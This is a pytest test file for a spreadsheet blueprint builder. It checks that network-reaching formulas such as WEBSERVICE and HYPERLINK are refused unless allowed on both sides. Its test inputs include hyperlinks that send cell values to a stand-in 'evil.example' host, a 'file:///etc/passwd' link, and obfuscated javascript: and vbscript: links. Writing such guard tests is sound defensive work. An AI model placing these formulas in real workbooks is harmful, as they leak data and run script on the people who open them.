"""Formulas of a blueprint stay in their workbook, unless it and the person who builds it say so."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

import plansheets
from plansheets.blueprint.read import examine_text
from plansheets.cli import cli
from plansheets.formula.functions import functions
from plansheets.plan.build import check

BLUEPRINT = """
blueprint: out
version: 1.0.0
title: Out
ALLOW
tables:
  tt:
    title: T
    columns:
      - {id: kk, type: key, label: k}
      - id: ff
        type: text
        label: f
        formula: >-
          FORMULA
sheets: [{id: main, title: Main, blocks: [table: tt]}]
"""
ASKING = '=WEBSERVICE("https://example.com/?"&[@kk])'


def written(formula: str, allow: str = "") -> str:
    return BLUEPRINT.replace("FORMULA", formula).replace("ALLOW", allow)


def codes(formula: str, allow: str = "", *, allow_network: bool = False) -> list[str]:
    reading = examine_text(written(formula, allow), "out.yaml", Path())
    found = check(reading, "excel365", allow_network=allow_network)
    return [problem.code for problem in found if problem.level == "error"]


@pytest.mark.parametrize("name", [one.name for one in functions().values() if one.reaches_out])
def test_a_function_that_asks_the_network_is_refused(name: str) -> None:
    function = functions()[name]
    arguments = ",".join(["[@kk]"] * max(function.minimum, 1))
    call = f'=IF(1=1,{name}({arguments}),"")'
    assert "PS241" in codes(call)
    assert "PS241" in codes(call, allow_network=True)
    assert "PS243" in codes(call, "allow: [network]")
    assert {"PS241", "PS243"}.isdisjoint(codes(call, "allow: network", allow_network=True))


@pytest.mark.parametrize("name", ["FILTERXML", "ENCODEURL"])
def test_a_function_that_only_computes_is_no_problem(name: str) -> None:
    arguments = ",".join(["[@kk]"] * functions()[name].minimum)
    assert codes(f"={name}({arguments})") == []


LEADING_OUT = [
    '"\\\\evil.example\\share\\"&[@kk]',
    '"\\\\evil.example\\share"',
    '"FILE:///etc/passwd"',
    '"file.exe"',
    '"https://evil.example/?"&[@kk]',
    '[@kk]&"https://example.com"',
    '""&"#a"',
    "[@kk]",
]
SCRIPTS = [
    '"javascript:alert(1)"',
    '" Java" & "Script:"&[@kk]',
    'IF(1=1,"vbscript:","x")',
    'CONCATENATE("java","script:x")',
    'LET(a,"data:text/html,x",a)',
]


@pytest.mark.parametrize("address", [*LEADING_OUT, *SCRIPTS])
def test_a_link_out_of_the_workbook_is_written_in_full(address: str) -> None:
    assert codes(f'=HYPERLINK({address},"Open")') == ["PS242"]


@pytest.mark.parametrize("address", LEADING_OUT)
def test_a_link_out_is_built_where_both_sides_allow_it(address: str) -> None:
    formula = f'=HYPERLINK({address},"Open")'
    assert codes(formula, "allow: [network]") == ["PS243"]
    assert codes(formula, "allow: [network]", allow_network=True) == []


@pytest.mark.parametrize("address", SCRIPTS)
def test_a_link_to_a_script_is_never_built(address: str) -> None:
    formula = f'=HYPERLINK({address},"Open")'
    assert codes(formula, "allow: [network]", allow_network=True) == ["PS242"]


@pytest.mark.parametrize(
    "address",
    ['"https://example.com/"', '"mailto:a@example.com"', '"#"&[@kk]', '"#main!"&"A1"&"b"'],
)
def test_a_link_that_carries_nothing_is_no_problem(address: str) -> None:
    assert codes(f'=HYPERLINK({address},"Open")') == []


@pytest.mark.parametrize(
    ("outer", "inner", "expected"),
    [
        ("", "", "PS241"),
        ("", "allow: [network]", "PS241"),
        ("allow: [network]", "", "PS241"),
        ("allow: [network]", "allow: [network]", None),
    ],
)
@pytest.mark.parametrize("between", [False, True])
def test_a_part_opens_nothing_for_the_whole_nor_the_whole_for_it(
    outer: str, inner: str, expected: str | None, *, between: bool, tmp_path: Path
) -> None:
    (tmp_path / "part.yaml").write_text(written(ASKING, inner), encoding="utf-8")
    including = "blueprint: {}\nversion: 1.0.0\ntitle: X\ninclude: [{}]\n{}\nsheets: []\n"
    included = "part.yaml"
    if between:
        middle = including.format("middle", included, "allow: [network]")
        (tmp_path / "middle.yaml").write_text(middle, encoding="utf-8")
        included = "middle.yaml"
    whole = tmp_path / "whole.yaml"
    whole.write_text(including.format("whole", included, outer), encoding="utf-8")
    found = plansheets.validate(whole, "excel365", allow_network=True)
    assert [problem.code for problem in found] == ([expected] if expected else [])


def test_a_file_between_that_does_not_allow_it_closes_what_it_includes(tmp_path: Path) -> None:
    allowing = written(ASKING, "allow: [network]")
    (tmp_path / "part.yaml").write_text(allowing, encoding="utf-8")
    including = "blueprint: {}\nversion: 1.0.0\ntitle: X\ninclude: [{}]\n{}\nsheets: []\n"
    (tmp_path / "middle.yaml").write_text(including.format("middle", "part.yaml", ""), "utf-8")
    whole = tmp_path / "whole.yaml"
    whole.write_text(including.format("whole", "middle.yaml", "allow: [network]"), "utf-8")
    found = plansheets.validate(whole, "excel365", allow_network=True)
    assert [problem.code for problem in found] == ["PS241"]


def test_the_command_line_builds_it_where_both_sides_allow_it(tmp_path: Path) -> None:
    blueprint = tmp_path / "out.yaml"
    blueprint.write_text(written(ASKING, "allow: [network]"), encoding="utf-8")
    target = tmp_path / "out.xlsx"
    build = ["build", str(blueprint), "-o", str(target), "--profile", "excel365"]
    refused = CliRunner().invoke(cli, build)
    assert refused.exit_code == 1
    assert not target.exists()
    assert "--allow-network" in refused.output
    assert CliRunner().invoke(cli, [*build, "--allow-network"]).exit_code == 0
    with zipfile.ZipFile(target) as book:
        sheets = [book.read(name) for name in book.namelist() if "/worksheets/sheet" in name]
    assert any(b"_xlfn.WEBSERVICE(" in sheet for sheet in sheets)
    verified = CliRunner().invoke(cli, ["verify", str(target)])
    assert verified.exit_code == 0
    assert "PS580" in verified.output


def test_show_says_that_a_blueprint_reaches_out(tmp_path: Path) -> None:
    blueprint = tmp_path / "out.yaml"
    blueprint.write_text(written(ASKING, "allow: [network]"), encoding="utf-8")
    shown = CliRunner().invoke(cli, ["show", str(blueprint)])
    assert "reaches out of the workbook: WEBSERVICE (1)" in shown.output
    told = json.loads(CliRunner().invoke(cli, ["show", str(blueprint), "--json"]).output)
    assert told["reaches_out"] == [
        {"function": "WEBSERVICE", "formula": ASKING, "file": str(blueprint), "line": 14}
    ]
    assert plansheets.outline("target-breakdown")["reaches_out"] == []
